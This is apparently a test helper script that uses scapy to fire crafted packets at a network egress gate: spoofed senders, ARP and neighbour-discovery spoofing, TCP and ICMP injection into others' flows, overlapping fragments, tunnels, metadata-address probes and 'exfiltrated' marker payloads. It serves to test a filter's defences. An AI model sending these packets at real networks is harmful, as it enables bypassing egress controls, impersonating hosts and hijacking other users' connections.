#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Root in the workload's namespace, with every socket it likes. Started by test_attack.

Sends whatever might get past the gate out of the interface given, between two sound packets to the
allowed destination, and prints how many frames it sent. What arrives is judged by test_attack.
"""
import os
import random
import socket
import subprocess
import sys

from scapy.all import (AH, ARP, ESP, GRE, IP, TCP, UDP, Dot1AD, Dot1Q, Ether, ICMP,
                       ICMPv6DestUnreach, ICMPv6EchoRequest, ICMPv6MLReport, ICMPv6ND_NA,
                       ICMPv6NDOptDstLLAddr, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect, IPOption_LSRR,
                       IPOption_RR, IPOption_SSRR, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment,
                       IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN, Raw, SCTP, fragment, raw)



def pair(name, *default):
    return os.environ.get(name, "").split() or default


OWN4, OWN6 = pair("OWN", "192.0.0.2", "fd7e:a7c3:1b5d::2")
GW4, GW6 = pair("GW", "192.0.0.1", "fd7e:a7c3:1b5d::1")
OK4, OK6 = pair("OK", "198.51.100.7", "2001:db8::7")
NO4, NO6 = "203.0.113.99", "2001:db9::99"
MAC, GW_MAC = pair("MACS", "02:65:78:00:00:02", "02:65:78:00:00:01")
NEAR4, NEAR6, NEAR_MAC = pair("NEAR", "", "", "")  # another pod on the bridge
GATE_MAC, = pair("GATE", "")  # of the pod's own gateway namespace
SECRET = b"exfiltrated"

interface, rounds = sys.argv[1], int(sys.argv[2])
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((interface, 0))
sent = 0


def send(frame):
    global sent
    data = frame if isinstance(frame, bytes) else raw(frame)
    try:
        out.send(data)
        sent += 1
    except OSError:
        pass  # larger than the device takes, or not even an Ethernet header


def eth(**fields):
    return Ether(**{"src": MAC, "dst": GW_MAC, **fields})


def ip4(dst=OK4, **fields):
    return IP(src=fields.pop("src", OWN4), dst=dst, **fields)


def ip6(dst=OK6, **fields):
    return IPv6(src=fields.pop("src", OWN6), dst=dst, **fields)


def tcp(port=443, flags="S", **fields):
    return TCP(sport=fields.pop("sport", 40000), dport=port, flags=flags, **fields)


def canaries():
    yield eth() / ip4() / tcp(sport=1111)
    yield eth() / ip6() / tcp(sport=1111)
    yield eth() / ip4() / UDP(sport=1111, dport=123) / Raw(b"x" * 20)
    yield eth() / ip6() / UDP(sport=1111, dport=123) / Raw(b"x" * 20)


def other_destinations():
    for dst in (NO4, "169.254.169.254", "8.8.8.8", "198.51.100.6", "198.51.100.8", GW4, OWN4,
                "127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.251", "100.64.0.1",
                "192.168.1.1", "203.0.113.2", "240.0.0.1"):
        if dst == OK4:
            continue
        yield eth() / ip4(dst) / tcp()
        yield eth() / ip4(dst) / UDP(sport=4000, dport=123) / SECRET
    for dst in (NO6, "::1", "::", "ff02::1", "fe80::1", "::ffff:198.51.100.9",
                "::ffff:169.254.169.254", "::169.254.169.254", "64:ff9b::a9fe:a9fe",
                "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::1", "2001:0:a9fe:a9fe::1", GW6, OWN6,
                "fd00:ec2::254", "2001:db8:ffff::2"):
        if dst == OK6:
            continue
        yield eth() / ip6(dst) / tcp()
        yield eth() / ip6(dst) / UDP(sport=4000, dport=123) / SECRET


def other_ports_and_protocols():
    for ip in (ip4(), ip6()):
        for port in (0, 1, 22, 25, 53, 80, 442, 444, 853, 8443, 65535):
            yield eth() / ip / tcp(port)
            yield eth() / ip / UDP(sport=4000, dport=port) / SECRET
        yield eth() / ip / UDP(sport=4000, dport=443) / SECRET  # QUIC
        yield eth() / ip / SCTP(sport=4000, dport=443) / SECRET
        yield eth() / ip / GRE() / IP(src=OWN4, dst=NO4) / tcp()
        yield eth() / ip / ESP(spi=1, seq=1) / SECRET
        yield eth() / ip / AH(spi=1, seq=1) / tcp()
        yield eth() / ip / IP(src=OWN4, dst=NO4) / tcp()
        yield eth() / ip / IPv6(src=OWN6, dst=NO6) / tcp()
        yield eth() / ip / UDP(sport=4000, dport=4789) / SECRET  # VXLAN
        yield eth() / ip / UDP(sport=4000, dport=3544) / IPv6(src=OWN6, dst=NO6) / tcp()  # Teredo
        for proto in (0, 2, 41, 43, 44, 46, 51, 59, 60, 89, 103, 112, 135, 253, 255):
            frame = eth() / ip / Raw(SECRET * 4)
            frame[1].fields["proto" if ip.version == 4 else "nh"] = proto
            yield frame
    for kind in range(256):
        yield eth() / ip4() / ICMP(type=kind) / SECRET
        frame = eth() / ip6() / Raw(bytes([kind]) + b"\0" * 7 + SECRET)
        frame[1].nh = 58
        yield frame


def stray_segments():
    for ip in (ip4(), ip6()):
        for flags in range(256):
            if flags & 0x17 != 2:
                yield eth() / ip / tcp(flags=flags, sport=2000) / SECRET


def forged_senders():
    for src in ("192.0.0.3", GW4, "0.0.0.0", "127.0.0.1", OK4, "255.255.255.255", "10.0.0.1"):
        yield eth() / ip4(src=src) / tcp()
        yield eth() / ip4(src=src) / UDP(sport=1, dport=123) / SECRET
    for src in ("fd7e:a7c3:1b5d::3", GW6, "::", "::1", "fe80::2", OK6, "::ffff:192.0.0.2"):
        yield eth() / ip6(src=src) / tcp()
    for ip in (ip4(), ip6()):
        yield eth(src="02:65:78:00:00:03") / ip / tcp()
        for dst in ("ff:ff:ff:ff:ff:ff", "01:00:5e:00:00:01", "33:33:00:00:00:01",
                    "02:65:78:00:00:04"):
            yield eth(dst=dst) / ip / tcp()


def odd_headers():
    for option in (IPOption_LSRR(routers=[NO4]), IPOption_SSRR(routers=[NO4]), IPOption_RR()):
        yield eth() / ip4(options=[option]) / tcp()
    for ihl in range(16):
        if ihl != 5:
            yield eth() / ip4(ihl=ihl) / tcp()
    for length in (0, 1, 19, 20, 21, 28, 39, 41, 60, 1500, 65535):
        yield eth() / ip4(len=length) / tcp()
        yield eth() / ip6(plen=length) / tcp()
    for version in (0, 5, 6, 15):
        yield eth() / ip4(version=version) / tcp()
    yield eth() / ip4(flags=4) / tcp()
    for tag in (Dot1Q(vlan=1), Dot1AD(vlan=1), Dot1AD(vlan=1) / Dot1Q(vlan=2), Dot1Q(vlan=0)):
        yield eth() / tag / ip4() / tcp()
        yield eth() / tag / ip6() / tcp()
    for kind in (0x0000, 0x0026, 0x05dc, 0x8035, 0x8847, 0x8864, 0x888e, 0x88cc, 0x88e5, 0x894f):
        yield eth(type=kind) / ip4() / tcp()
    for ext in (IPv6ExtHdrRouting(addresses=[NO6]), IPv6ExtHdrRouting(type=2, addresses=[NO6]),
                IPv6ExtHdrRouting(type=4, addresses=[NO6])):
        yield eth() / ip6() / ext / tcp()
    pad = [PadN(optdata=b"\1\xbb\1\xbb")]
    yield eth() / ip6() / IPv6ExtHdrDestOpt(options=pad) / tcp(22)
    yield eth() / ip6() / IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop() / tcp()
    yield eth() / ip6() / IPv6ExtHdrDestOpt() / IPv6ExtHdrFragment(m=0) / tcp(22)
    many = ip6()
    for _ in range(12):
        many = many / IPv6ExtHdrDestOpt()
    yield eth() / many / tcp(22)


def fragments():
    for piece in fragment(ip4() / tcp() / Raw(b"y" * 100), 24):
        yield eth() / piece
    for piece in fragment(ip4(NO4) / UDP(sport=1, dport=123) / Raw(b"y" * 100), 24):
        yield eth() / piece
    for piece in fragment(ip4() / UDP(sport=1, dport=53) / Raw(b"y" * 100), 24):
        yield eth() / piece
    yield eth() / ip4(flags=1, id=7) / Raw(raw(tcp())[:8])  # the flags come later
    yield eth() / ip4(frag=1, id=7) / Raw(raw(tcp())[8:])
    yield eth() / ip4(flags=1, id=8, proto=17) / Raw(raw(UDP(sport=1, dport=124, len=32))[:8])
    yield eth() / ip4(frag=1, id=8, proto=17) / Raw(SECRET * 2)
    yield eth() / ip4(frag=8191, id=9, proto=17) / Raw(SECRET * 9)
    for nh in (6, 17, 58, 47):
        yield eth() / ip6() / IPv6ExtHdrFragment(m=1, id=5, nh=nh) / Raw(SECRET * 8)
        yield eth() / ip6() / IPv6ExtHdrFragment(offset=1, m=0, id=6, nh=nh) / Raw(SECRET * 8)
        yield eth() / ip6() / IPv6ExtHdrFragment(offset=0, m=0, id=6, nh=nh) / Raw(SECRET * 8)


def neighbours():
    for op in (1, 2, 3, 4):
        for target in (GW4, "192.0.0.3", OWN4, "203.0.113.2"):
            yield eth(dst="ff:ff:ff:ff:ff:ff") / ARP(op=op, hwsrc=MAC, psrc=OWN4, pdst=target)
            yield eth(dst="ff:ff:ff:ff:ff:ff") / ARP(op=op, hwsrc=MAC, psrc=target, pdst=GW4)
    link = ip6("ff02::1", hlim=255)
    yield eth(dst="33:33:00:00:00:01") / link / ICMPv6ND_RA()
    yield eth(dst="33:33:00:00:00:01") / link / ICMPv6ND_NA(tgt=GW6)
    yield eth(dst="33:33:00:00:00:01") / link / ICMPv6ND_NS(tgt="2001:db8:ffff::2")
    yield eth() / ip6(GW6, hlim=255) / ICMPv6ND_Redirect(tgt=NO6, dst=OK6)
    yield eth(dst="33:33:00:00:00:16") / ip6("ff02::16") / ICMPv6MLReport()


def quotes_of_others_flows():
    """ICMP errors towards anybody, quoting flows that are not there, and one that is."""
    yield eth() / ip4(NO4) / ICMP(type=3, code=3) / IP(src=NO4, dst=OWN4) / UDP(sport=123, dport=9)
    yield eth() / ip4(NO4) / ICMP(type=3, code=3) / IP(src=OK4, dst=OWN4) / UDP(sport=123, dport=1111)
    yield eth() / ip6(NO6) / ICMPv6DestUnreach() / IPv6(src=OK6, dst=OWN6) / \
        UDP(sport=123, dport=1111)
    yield eth() / ip6(NO6) / ICMPv6EchoRequest(data=SECRET)


def on_a_bridge():
    """A neighbour spoken to, impersonated, and told of others."""
    everybody, near = "ff:ff:ff:ff:ff:ff", NEAR_MAC
    for port in (22, 53, 80, 443, 444):
        yield eth(dst=near) / ip4(NEAR4) / tcp(port)
        yield eth(dst=near) / ip6(NEAR6) / tcp(port)
        yield eth(dst=near) / ip4(NEAR4) / UDP(sport=9, dport=port) / SECRET
        yield eth(dst=near) / ip4(src=NEAR4) / tcp(port)
        yield eth(src=near) / ip4(src=NEAR4) / tcp(port)
        yield eth(dst=near) / ip4(src=GW4, dst=NEAR4) / tcp(port, flags="SA")
        yield eth(dst=near) / ip6(src=GW6, dst=NEAR6) / tcp(port)
    for mac in (MAC, NEAR_MAC, GW_MAC):
        for claim in (NEAR4, GW4, "10.77.0.99", "0.0.0.0", "255.255.255.255"):
            for op in (1, 2):
                yield eth(dst=everybody) / ARP(op=op, hwsrc=mac, psrc=claim, pdst=claim)
                yield eth(dst=near) / ARP(op=op, hwsrc=mac, psrc=claim, hwdst=near, pdst=NEAR4)
                yield eth(src=mac, dst=near) / ARP(op=op, hwsrc=mac, psrc=claim, pdst=NEAR4)
    yield eth(dst=everybody) / ARP(op=1, hwsrc=MAC, psrc=OWN4, hwdst="73:65:63:72:65:74",
                                   pdst=NEAR4)
    for src in (OWN6, NEAR6, GW6, "fe80::1", "::"):
        for target in (NEAR6, GW6, "fd77::99", NO6, "fe80::1"):
            for dst in ("ff02::1", NEAR6, NO6):
                link = IPv6(src=src, dst=dst, hlim=255)
                yield eth(dst=near) / link / ICMPv6ND_NA(tgt=target) / \
                    ICMPv6NDOptDstLLAddr(lladdr=MAC)
                yield eth() / link / ICMPv6ND_NS(tgt=target) / Raw(b"\x0e\x02" + SECRET + b"\0" * 3)
    yield eth() / ip6(NO6, hlim=255) / ICMPv6ND_NS(tgt=NO6)
    yield eth() / ip6(NO6, hlim=255) / ICMPv6ND_NA(tgt=OWN6)
    for kind, dst in ((0x0027, "01:80:c2:00:00:00"), (0x88cc, "01:80:c2:00:00:0e"),
                      (0x888e, "01:80:c2:00:00:03"), (0x9000, near)):
        yield eth(dst=dst, type=kind) / Raw(SECRET * 4)
    for dst in ("224.0.0.251", "239.255.255.250", "10.77.0.255", "255.255.255.255"):
        yield eth(dst="01:00:5e:00:00:fb") / ip4(dst) / UDP(sport=5353, dport=5353) / SECRET
        yield eth(dst=everybody) / ip4(dst) / UDP(sport=9, dport=123) / SECRET
    yield eth(dst="33:33:00:00:00:fb") / ip6("ff02::fb") / UDP(sport=5353, dport=5353) / SECRET


def every_protocol():
    for ip in (ip4(), ip6()):
        for proto in range(256):
            if proto not in (1, 6, 17, 58):
                frame = eth() / ip / Raw(SECRET * 4)
                frame[1].fields["proto" if ip.version == 4 else "nh"] = proto
                yield frame


def overlaps():
    """Pieces that fit a datagram which may pass, but for one thing."""
    def piece4(number, data, dst=OK4, proto=17, **fields):
        return eth() / ip4(dst, id=number, proto=proto, **fields) / Raw(data)

    def piece6(number, data, dst=OK6, nh=17, **fields):
        return eth() / ip6(dst) / IPv6ExtHdrFragment(id=number, nh=nh, **fields) / Raw(data)

    fine = raw(UDP(sport=7, dport=123, len=64))[:8] + b"z" * 16
    other = raw(UDP(sport=7, dport=53, len=64))[:8] + SECRET + b"z" * 5
    tail = SECRET + b"z" * 5
    yield piece4(41, fine, flags=1)
    yield piece4(41, other, flags=1)  # once more, to another port
    yield piece4(41, tail, dst=NO4, frag=3)
    yield piece4(41, tail, proto=6, frag=3)
    yield piece4(41, tail, proto=1, frag=3)
    yield piece4(41, tail, src=NEAR4 or "192.0.0.3", frag=3)
    yield piece4(42, tail, frag=3)
    yield piece4(41, SECRET, flags=1, frag=3)  # not a multiple of eight
    yield piece4(41, tail, frag=8190)  # beyond the largest packet
    yield piece6(41, fine, m=1)
    yield piece6(41, other, m=1)
    yield piece6(41, tail, dst=NO6, offset=3)
    yield piece6(41, tail, nh=6, offset=3)
    yield piece6(41, tail, nh=60, offset=3)
    yield piece6(42, tail, offset=3)
    yield piece6(41, SECRET, offset=3, m=1)
    yield piece6(41, tail, offset=8190)
    yield eth() / ip6() / IPv6ExtHdrFragment(id=41, offset=3) / IPv6ExtHdrFragment(nh=17) / tail


def injections():
    """Into flows of others, as one of their ends or as somebody on the way."""
    victim4, victim6 = NEAR4 or "192.0.0.3", NEAR6 or "fd7e:a7c3:1b5d::3"
    for flags in ("R", "RA", "FA", "A", "PA", "SA", "S"):
        yield eth() / ip4(src=victim4) / tcp(443, flags) / SECRET
        yield eth() / ip6(src=victim6) / tcp(443, flags) / SECRET
        for there in (victim4, GW4, NO4):
            yield eth(dst=NEAR_MAC or GW_MAC) / ip4(there, src=OK4) / \
                tcp(40000, flags, sport=443) / SECRET
    for code in (1, 3, 4, 13):
        for quoted in (IP(src=OK4, dst=victim4) / UDP(sport=123, dport=1111),
                       IP(src=OK4, dst=OWN4) / UDP(sport=123, dport=9),
                       IP(src=OK4, dst=OWN4) / tcp(9, "A", sport=443),
                       IP(src=NO4, dst=OWN4) / UDP(sport=123, dport=1111),
                       IP(src=OWN4, dst=OK4) / UDP(sport=1111, dport=123),
                       IPv6(src=OK6, dst=OWN6) / UDP(sport=123, dport=1111)):
            yield eth() / ip4() / ICMP(type=3, code=code) / quoted / SECRET
            yield eth() / ip4(src=victim4) / ICMP(type=3, code=code) / quoted / SECRET
    for quoted in (IPv6(src=OK6, dst=victim6) / UDP(sport=123, dport=1111),
                   IPv6(src=OK6, dst=OWN6) / UDP(sport=123, dport=9),
                   IPv6(src=OWN6, dst=OK6) / UDP(sport=1111, dport=123),
                   IP(src=OK4, dst=OWN4) / UDP(sport=123, dport=1111)):
        yield eth() / ip6() / ICMPv6DestUnreach() / quoted / SECRET
        yield eth() / ip6(src=victim6) / ICMPv6DestUnreach() / quoted / SECRET


def would_be_servers():
    """DHCP of both families, as client and as server; IPv4 that hides in odd IPv6."""
    everybody = eth(dst="ff:ff:ff:ff:ff:ff")
    for src in ("0.0.0.0", OWN4, GW4):
        for ports in ((67, 68), (68, 67)):
            yield everybody / ip4("255.255.255.255", src=src) / UDP(sport=ports[0], dport=ports[1]) / SECRET
    for ports in ((546, 547), (547, 546)):
        yield eth(dst="33:33:00:01:00:02") / ip6("ff02::1:2") / UDP(sport=ports[0], dport=ports[1]) / SECRET
    for dst in ("::ffff:0:203.0.113.99", "::ffff:0:169.254.169.254", "::5efe:203.0.113.99",
                "fe80::5efe:203.0.113.99", "64:ff9b::203.0.113.99", "2002:cb00:7163::1",
                "2001:0:cb00:7163::1", "64:ff9b:1::203.0.113.99", "ff0e::1", "fec0::1"):
        yield eth() / ip6(dst) / tcp()
        yield eth() / ip6(dst) / UDP(sport=4000, dport=123) / SECRET


def at_the_gateway():
    """What is steered, with nobody there to take it, and whatever else a gateway might believe."""
    for mac in (GATE_MAC, GW_MAC, NEAR_MAC):
        for ip in (ip4(), ip6(), ip4(NO4), ip6(NO6), ip4(src=OK4, dst=OWN4), ip4(OWN4),
                   ip4(src=GW4), ip4(src=NEAR4)):
            for flags in ("S", "SA", "A", "R"):
                yield eth(dst=mac) / ip / tcp(80, flags) / SECRET
                yield eth(src=GATE_MAC, dst=mac) / ip / tcp(80, flags) / SECRET
            yield eth(dst=mac) / ip / UDP(sport=53, dport=53) / SECRET


def own_devices():
    """Devices that the pod makes itself above the one it was given."""
    global out
    given = out
    for kind in ("vlan id 5", "vlan protocol 802.1ad id 5", "macvlan mode bridge",
                 "macvlan mode passthru", "ipvlan mode l2", f"vxlan id 5 remote {OK4} dstport 4789",
                 f"geneve id 5 remote {OK4}", f"gretap local {OWN4} remote {OK4}", "macsec encrypt on"):
        link = f"link {interface} " if kind.split()[0] not in ("vxlan", "geneve", "gretap") else ""
        made = subprocess.run(f"ip link add {link}name atk0 type {kind} && ip link set atk0 up",
                              shell=True, stderr=subprocess.DEVNULL, check=False)
        if made.returncode == 0:
            out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
            out.bind(("atk0", 0))
            for mac in (MAC, "02:65:78:00:00:77"):
                for ip in (ip4(), ip6(), ip4(NO4), ip6(NO6)):
                    send(eth(src=mac) / ip / tcp(22) / SECRET)
                    send(eth(src=mac) / ip / UDP(sport=4000, dport=53) / SECRET)
            out.close()
        subprocess.run("ip link del atk0", shell=True, stderr=subprocess.DEVNULL, check=False)
    out = given


def cut_short():
    for frame in (eth() / ip4() / tcp() / SECRET, eth() / ip6() / tcp() / SECRET,
                  eth() / ip4() / UDP(sport=1, dport=123) / SECRET):
        data = raw(frame)
        for length in range(14, len(data)):
            yield data[:length]


def spoiled(count):
    """Sound packets with one to four bytes changed at random."""
    sound = [bytearray(raw(frame)) for frame in canaries()]
    sound += [bytearray(raw(frame)) for frame in (
        eth() / ip6() / IPv6ExtHdrHopByHop() / tcp(),
        eth() / ip4(flags=1, proto=17) / Raw(raw(UDP(sport=1, dport=123, len=100))),
        eth(dst="ff:ff:ff:ff:ff:ff") / ARP(hwsrc=MAC, psrc=OWN4, pdst=GW4))]
    for _ in range(count):
        data = bytearray(random.choice(sound))
        for _ in range(random.randint(1, 4)):
            data[random.randrange(len(data))] = random.randrange(256)
        yield bytes(data)


def sockets():
    """The same by way of the kernel's own stack."""
    for dst, port in ((OK4, 22), (NO4, 443), ("169.254.169.254", 80), (GW4, 22)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            s = socket.socket(socket.AF_INET, kind)
            s.setblocking(False)
            try:
                s.connect((dst, port))
                s.send(SECRET)
            except OSError:
                pass
            s.close()


def main():
    seed = int(os.environ.get("EX_ATTACK_SEED", random.randrange(1 << 32)))
    random.seed(seed)
    print(f"EX_ATTACK_SEED={seed}")
    for frame in canaries():
        send(frame)
    attacks = [other_destinations, other_ports_and_protocols, every_protocol, stray_segments,
               forged_senders, odd_headers, fragments, overlaps, neighbours,
               quotes_of_others_flows, injections, would_be_servers, cut_short]
    if NEAR4:
        attacks += [on_a_bridge, at_the_gateway]
    for attack in attacks:
        for frame in attack():
            send(frame)
    sockets()
    own_devices()
    for data in spoiled(rounds):
        send(data)
    for frame in canaries():
        send(frame)
    print(f"{sent} frames sent")


main()
